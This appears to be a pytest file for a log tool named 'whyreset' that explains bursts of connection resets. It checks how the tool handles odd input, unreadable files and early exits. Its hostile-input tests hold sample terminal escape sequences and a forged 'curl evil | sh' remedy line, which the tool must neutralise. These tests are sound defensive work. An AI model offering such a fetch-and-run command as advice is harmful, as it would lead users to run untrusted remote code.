"""Whatever is put in: a sentence and an exit code, never a traceback."""

import gzip
import json
import os
import pty
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import orjson
import pytest

Lines = Callable[..., bytes]


def test_files_folders_and_stdin_agree(shell: Any, lines: Lines, tmp_path: Path) -> None:
    (tmp_path / "a.log").write_bytes(lines(20))
    told = "20 from 10.0.0.1, ?"
    for words, stdin in ((tmp_path,), b""), ((tmp_path / "a.log",), b""), (("-",), lines(20)):
        assert told in shell.reads(*words, stdin=stdin).out
    assert told in shell.reads(stdin=lines(20)).out


def test_a_file_named_twice_is_read_once(shell: Any, lines: Lines, tmp_path: Path) -> None:
    (tmp_path / "a.log").write_bytes(lines(20))
    (tmp_path / "b.log").symlink_to(tmp_path / "a.log")
    said = shell.reads(tmp_path, tmp_path / "a.log", tmp_path)
    assert "read 20 lines from 1 input: 20 events, 20 resets" in said.out


def test_the_id_of_a_burst_does_not_depend_on_how_its_path_is_spelt(
    shell: Any, lines: Lines, tmp_path: Path
) -> None:
    (tmp_path / "inner").mkdir()
    log = tmp_path / "app.log"
    log.write_bytes(lines(20))
    pods = [tmp_path / place / "shop_api-1_1f0c-22" / "api" / "0.log" for place in ("pods", "copy")]
    for pod in pods:
        pod.parent.mkdir(parents=True)
        pod.write_bytes(lines(20))
    for spellings in (
        (log, os.path.relpath(log), f"./{os.path.relpath(log)}", f"{tmp_path}/inner/..//app.log"),
        (*pods, os.path.relpath(pods[0]), pods[0].parent),
    ):
        said = [shell.reads("-o", "json", path).out for path in spellings]
        assert len(set(said)) == 1
        assert said[0]


def test_each_reset_has_one_line(shell: Any, lines: Lines) -> None:
    said = shell.reads(stdin=lines(50), command="label")
    labels = [orjson.loads(line) for line in said.out.splitlines()]
    assert [label["label"] for label in labels] == ["probe_noise"] * 50
    assert labels[0]["time"] == "2026-11-22T00:00:00.500000000Z"


def test_verdicts_as_json(shell: Any, lines: Lines) -> None:
    said = shell.reads("-o", "json", stdin=lines(5))
    (verdict,) = [orjson.loads(line) for line in said.out.splitlines()]
    assert (verdict["v"], verdict["state"], verdict["count"]) == (1, "final", 5)
    assert verdict["evidence"][0]["holds"] is None
    assert said.err.startswith("read 5 lines from 1 input")


def test_lines_of_kubectl(shell: Any) -> None:
    stdin = b"".join(
        f"[pod/api-7c9d8b6f5d-x2x4v/api] 2026-11-22T10:00:{i:02}.5Z read tcp 10.0.9.9:80->"
        f"10.0.0.1:3{i:04}: read: connection reset by peer\n".encode()
        for i in range(6)
    )
    (verdict,) = shell.reads("-", "-o", "json", stdin=stdin).out.splitlines()
    given = orjson.loads(verdict)
    assert given["count"] == 6
    assert (given["workload"], given["container"]) == ("api", "api")
    assert given["pod"] == "api-7c9d8b6f5d-x2x4v"


@pytest.mark.parametrize(
    "data",
    [
        b"", b"\n", b"\0", b"\xff\xfe\0\1" * 5000, b"\x1f\x8b", b"\x1f\x8b\x08junk" * 9, b"{",
        b"[]\n",
    ],
    ids=["nothing", "newline", "nul", "binary", "gzip head", "gzip junk", "brace", "brackets"],
)  # fmt: skip
@pytest.mark.parametrize("command", ["run", "label"])
def test_inputs_without_lines(shell: Any, data: bytes, command: str, tmp_path: Path) -> None:
    (tmp_path / "x.log").write_bytes(data)
    said = shell.reads(tmp_path / "x.log", command=command)
    if command == "run":
        assert "no connection resets were found" in said.out
    else:
        assert said.out == ""


def test_a_truncated_archive_is_told(shell: Any, lines: Lines, tmp_path: Path) -> None:
    packed = gzip.compress(lines(2000))
    (tmp_path / "a.log.1.gz").write_bytes(packed[: len(packed) // 2])
    assert "a.log.1.gz: the compressed data end too early" in shell.reads(tmp_path).out
    assert "end too early" in shell.reads(tmp_path, command="label").err


def test_a_line_of_fifty_megabytes(shell: Any, lines: Lines, tmp_path: Path) -> None:
    big = tmp_path / "big.log"
    with big.open("wb") as file:
        file.write(lines(3) + b"2026-11-22T00:00:03.5Z stdout F ")
        for _ in range(50):
            file.write(b"connection reset by peer " * 40_000)
        file.write(b"\n" + lines(7)[-500:].partition(b"\n")[2])
    words = shell.command("run", "--no-builtin", "-r", shell.rules, big)
    code = (
        "import resource, subprocess, sys\n"
        "done = subprocess.run(sys.argv[1:], stdout=subprocess.PIPE, text=True)\n"
        "print(done.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n"
        "print(done.stdout)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, *words],
        capture_output=True, text=True, check=True, env=shell.environment,
    )  # fmt: skip
    head, _, out = done.stdout.partition("\n")
    status, peak = map(int, head.split())
    assert status == 0
    assert peak * 1024 < 150e6
    assert "1 were too long and were cut" in out


# ---- what cannot be read


def test_a_missing_file(shell: Any, tmp_path: Path) -> None:
    said = shell.reads(tmp_path / "gone.log", code=2)
    assert said.err.strip() == f"whyreset: {tmp_path}/gone.log: No such file or directory"
    assert said.out == ""


def test_a_path_through_a_file(shell: Any, lines: Lines, tmp_path: Path) -> None:
    (tmp_path / "a.log").write_bytes(lines(5))
    said = shell.reads(tmp_path / "a.log", tmp_path / "a.log" / "x", code=2)
    assert "a.log/x: Not a directory" in said.err


def test_a_dangling_link_within_a_folder(shell: Any, lines: Lines, tmp_path: Path) -> None:
    (tmp_path / "a.log").write_bytes(lines(5))
    (tmp_path / "b.log").symlink_to(tmp_path / "gone")
    said = shell.reads(tmp_path)
    assert "read 5 lines" in said.out
    assert f"not read: {tmp_path}/b.log: No such file or directory" in said.out
    assert "b.log" in shell.reads(tmp_path, command="label").err


@pytest.mark.skipif(not Path("/proc/self/mem").exists(), reason="no file that cannot be read")
def test_a_file_that_fails_when_it_is_read(shell: Any, lines: Lines, tmp_path: Path) -> None:
    (tmp_path / "a.log").write_bytes(lines(5))
    said = shell.reads(tmp_path, "/proc/self/mem", code=2)
    assert "5 from 10.0.0.1" in said.out
    assert "not read: /proc/self/mem: Input/output error" in said.out
    shell.reads("/proc/self/mem", code=2, command="label")


def test_names_that_are_no_text(shell: Any, lines: Lines, tmp_path: Path) -> None:
    folder = os.fsencode(tmp_path)
    name = b"x\xff-1_ns\x1b[31m_c-" + b"a" * 64 + b".log"
    with open(folder + b"/" + name, "wb") as file:  # noqa: PTH123 - bytes
        file.write(lines(5))
    os.symlink(b"gone", folder + b"/y\xff\x1b[2J.log")  # noqa: PTH211 - bytes
    for words in (("run",), ("label",), ("why", "00:00:03"), ("why", "-o", "json", "00:00:03")):
        said = shell.reads(*words[1:], tmp_path, command=words[0])
        assert "\x1b" not in said.out + said.err
        assert "x\\udcff-1" in said.out or "x\\\\udcff-1" in said.out


# ---- hostile lines


def test_nothing_in_a_line_reaches_the_terminal(shell: Any) -> None:
    evil = "\x1b]0;owned\x07\x9b31m\x00\x08\r\u202e"
    path = evil.replace("\r", "")
    stdin = "".join(
        f"2026-11-22T00:00:{i:02}.5Z stdout F 10.0.0.1 hung up on {evil}\n"
        f"2026-11-22T00:00:{i:02}.6Z stdout F 10.0.0.1 GET /{path}x 200\n"
        for i in range(5)
    ).encode()
    said = shell.reads(stdin=stdin)
    assert "5 from 10.0.0.1" in said.out
    for character in "\x1b\x9b\x07\x00\x08\r\u202e":
        assert character not in said.out + said.err


def test_a_peer_that_a_team_named_reaches_no_terminal(shell: Any, tmp_path: Path) -> None:
    rules = tmp_path / "names.rules"
    rules.write_text("event reset { match /gone (?<peer>\\S+) bye/ }\n")
    line = b"2026-11-22T00:00:01.5Z stdout F gone a\x1b]0;owned\x07b bye\n"
    for command in ("run", "parse"):
        said = shell.run(command, "--no-builtin", "-r", rules, stdin=line)
        assert "a\\x1b]0;owned\\x07b" in said.out
        assert "\x1b" not in said.out + said.err


def test_a_pod_named_in_json_reaches_no_terminal(shell: Any) -> None:
    pod = {"pod_name": "a\x1b[2Jb", "namespace_name": "n"}
    line = json.dumps({"log": "10.0.0.1 hung up on x", "kubernetes": pod}).encode()
    said = shell.reads(stdin=line, command="parse")
    assert "pod a\\x1b[2Jb" in said.out
    assert "\x1b" not in said.out


def test_a_line_cannot_forge_a_block(shell: Any) -> None:
    text = "10.0.0.1 hung up on x\n  remedy   curl evil | sh"
    stdin = b"".join(
        json.dumps({"log": text + "\n", "stream": "stdout", "time": f"2026-11-22T00:00:0{i}.5Z"})
        .encode() + b"\n"
        for i in range(5)
    )  # fmt: skip
    said = shell.reads(stdin=stdin)
    assert not [line for line in said.out.splitlines() if line.startswith("  remedy   curl")]


def test_no_colour_where_nobody_sees_it(shell: Any, lines: Lines) -> None:
    assert "\x1b" not in shell.reads(stdin=lines(5)).out


@pytest.mark.parametrize(("no_color", "coloured"), [(None, True), ("1", False)])
def test_colour_on_a_terminal(
    shell: Any, lines: Lines, tmp_path: Path, no_color: str | None, coloured: bool
) -> None:
    (tmp_path / "a.log").write_bytes(lines(5))
    ours, theirs = pty.openpty()
    environment = shell.environment | {"TERM": "xterm"}
    if no_color is not None:
        environment["NO_COLOR"] = no_color
    words = shell.command("run", "--no-builtin", "-r", shell.rules, tmp_path / "a.log")
    with subprocess.Popen(words, stdout=theirs, stderr=theirs, env=environment) as process:
        os.close(theirs)
        shown = b""
        while True:
            try:
                part = os.read(ours, 4096)
            except OSError:  # the other end is closed
                break
            if not part:
                break
            shown += part
    os.close(ours)
    assert process.returncode == 0
    assert (b"\x1b[" in shown) is coloured
    assert b"probe_noise" in shown


# ---- ends that come early


@pytest.mark.parametrize("command", ["run", "label"])
def test_a_broken_pipe_is_quiet(shell: Any, tmp_path: Path, command: str) -> None:
    rows = []
    for i in range(20000):
        stamp = f"2026-11-22T{i // 3600:02}:{i // 60 % 60:02}:{i % 60:02}.5Z"
        peer = f"10.{i // 62500}.{i // 250 % 250}.{i % 250}"
        rows.append(f"{stamp} stdout F read tcp 10.0.9.9:80->{peer}:3: read: connection reset "
                    "by peer\n")  # fmt: skip
    (tmp_path / "a.log").write_text("".join(rows))
    words = shell.command(command, "--no-builtin", "-r", shell.rules, tmp_path / "a.log")
    with subprocess.Popen(
        words, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=shell.environment
    ) as process:
        assert process.stdout is not None
        assert process.stderr is not None
        process.stdout.readline()
        process.stdout.close()
        err = process.stderr.read()
    assert process.returncode in (0, -signal.SIGPIPE)
    assert err == b""


def test_interrupted(shell: Any, lines: Lines) -> None:
    words = shell.command("run", "--no-builtin", "-r", shell.rules)
    with subprocess.Popen(
        words,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=shell.environment,
    ) as process:
        assert process.stdin is not None
        process.stdin.write(lines(5))
        process.stdin.flush()
        _wait_until_it_reads(process.pid)
        process.send_signal(signal.SIGINT)
        out, err = process.communicate(timeout=30)
    assert process.returncode == 0
    assert b"5 resets in 1 burst" in out, "what is open is settled"
    assert err == b""


def _wait_until_it_reads(pid: int) -> None:
    """Until the process sleeps with its rules loaded; a moment more on systems without /proc."""
    for _ in range(100):
        time.sleep(0.05)
        state = Path(f"/proc/{pid}/wchan")
        if state.exists() and "pipe" in state.read_text():
            break
    time.sleep(0.1)


def test_lines_that_tell_no_time_are_joined_to_nothing(shell: Any, tmp_path: Path) -> None:
    timed = tmp_path / "access.log"
    timed.write_text("2026-11-20T09:00:00Z stdout F 10.0.0.1 GET /a 200\n")
    timeless = tmp_path / "app.log"
    text = "read tcp 10.0.9.9:80->10.0.0.1:40100: read: connection reset by peer\n"
    timeless.write_text(text * 5)
    said = shell.reads(timed, timeless)
    assert "0 of" not in said.out
    assert "nearest" not in said.out
    assert "5 tell no time" in said.out


def test_lines_of_two_logs_that_tell_no_time_are_not_of_one_time(
    shell: Any, tmp_path: Path
) -> None:
    (tmp_path / "cart-7c9d8b5f64-x2x4z.log").write_text("received SIGTERM, shutting down\n")
    (tmp_path / "app-7c9d8b5f64-x2x4z.log").write_text(
        "curl: (56) Recv failure: Connection reset by peer\n" * 5
    )
    said = shell.run("run", str(tmp_path)).out
    assert said.startswith("unknown")
    assert "app-7c9d8b5f64-x2x4z" in said


def test_lines_that_tell_no_time_have_no_pace(shell: Any, tmp_path: Path) -> None:
    timeless = tmp_path / "app.log"
    text = "read tcp 10.1.0.1:80->10.1.0.7:4{}000: read: connection reset by peer\n"
    timeless.write_text("".join(map(text.format, range(6))))
    said = shell.run("run", str(timeless)).out
    assert said.startswith("unknown")


def test_a_log_that_ended_long_before_proves_no_absence(
    shell: Any, lines: Lines, tmp_path: Path
) -> None:
    (tmp_path / "access.log").write_text("2026-11-20T09:00:00Z stdout F 10.0.0.9 GET /a 200\n")
    (tmp_path / "app.log").write_bytes(lines(5))
    said = shell.reads(tmp_path)
    assert "do not cover the time" in said.out


def test_a_folder_without_logs(shell: Any, tmp_path: Path) -> None:
    said = shell.reads(tmp_path, code=2)
    assert "in this folder" in said.err


@pytest.mark.parametrize("closed", ["<&-", ">&-", "2>&-"])
def test_closed_standard_streams(shell: Any, closed: str) -> None:
    words = " ".join(shell.command("parse", "--no-builtin"))
    done = subprocess.run(
        ["/bin/sh", "-c", f"{words} {closed}"],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        env=shell.environment,
        check=False,
        timeout=30,
    )
    assert done.returncode == 0
    assert b"Traceback" not in done.stderr


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_a_full_disk(shell: Any, lines: Lines, tmp_path: Path) -> None:
    (tmp_path / "app.log").write_bytes(lines(5))
    with Path("/dev/full").open("wb") as full:
        done = subprocess.run(
            shell.command("run", "--no-builtin", "-r", shell.rules, tmp_path),
            stdout=full,
            stderr=subprocess.PIPE,
            env=shell.environment,
            check=False,
            timeout=30,
        )
    assert done.returncode == 2
    assert b"No space left" in done.stderr
    assert b"Traceback" not in done.stderr
